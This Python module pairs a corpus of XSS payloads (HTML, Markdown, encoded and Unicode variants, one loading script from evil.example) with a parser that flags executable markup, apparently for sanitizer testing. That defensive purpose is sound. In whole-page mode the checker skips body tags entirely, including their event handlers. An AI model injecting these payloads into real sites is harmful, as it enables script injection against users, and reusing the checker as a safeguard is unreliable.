"""A corpus of XSS payloads, and a checker that parses HTML and fails on anything executable."""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<!--<img src=x onerror=alert(1)>-->",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](http://example.org/a.png)',
    '[x](http://example.org" onmouseover="alert(1))',
    "[x](http://example.org 'a\" onmouseover=\"alert(1)')",
    "<a href=http://example.org onmouseover=alert(1)>x</a>",
    "[x](<javascript:alert(1)>)",
    '<http://example.org" onclick="alert(1)>',
    "<javascript:alert(1)>",
    "\u202e<script>alert(1)</script>",
    "[\u200bclick](java\u200bscript:alert(1))",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "* <a href=javascript:alert(1)>x</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "{{ 7*7 }}{% debug %}",
]

ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


class _Checker(HTMLParser):
    def __init__(self, *, allowed_script_srcs: tuple[str, ...] = ()) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.allowed_script_srcs = allowed_script_srcs
        # Checking a whole page: the layout's own decorative SVG icons and its nonce-carrying <style>
        # (the brand colour; CSP refuses any <style> without the response's nonce) are fine.
        self.whole_page = bool(allowed_script_srcs)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if self.whole_page and (
            tag == "body"
            or (tag == "style" and "nonce" in attributes)
            or (tag in {"svg", "path"} and self._in_hidden_svg(tag, attributes))
        ):
            return
        forbidden = {"iframe", "object", "embed", "svg", "math", "base", "meta", "style", "img"}
        if tag in forbidden and not (tag == "meta" and "http-equiv" not in attributes):
            self.problems.append(f"<{tag}>")
        if tag == "script" and not (attributes.get("src") or "").startswith(self.allowed_script_srcs or ("\0",)):
            self.problems.append("inline <script>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{name}= on <{tag}>")
            # formaction is the site's own (the reply form's Preview); a script scheme there is still flagged.
            if name in {"href", "src", "action", "formaction", "data"} and value:
                lowered = "".join(value.split()).lower()
                if ":" in lowered.split("/")[0] and not lowered.startswith(ALLOWED_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def _in_hidden_svg(self, tag, attributes) -> bool:
        if tag == "svg":
            self.hidden_svg = attributes.get("aria-hidden") == "true" and not any(
                name.startswith("on") for name in attributes
            )
            return self.hidden_svg
        return getattr(self, "hidden_svg", False) and not any(name.startswith("on") for name in attributes)


def dangerous_parts(html: str, *, allowed_script_srcs: tuple[str, ...] = ()) -> list[str]:
    checker = _Checker(allowed_script_srcs=allowed_script_srcs)
    checker.feed(html)
    checker.close()
    return checker.problems
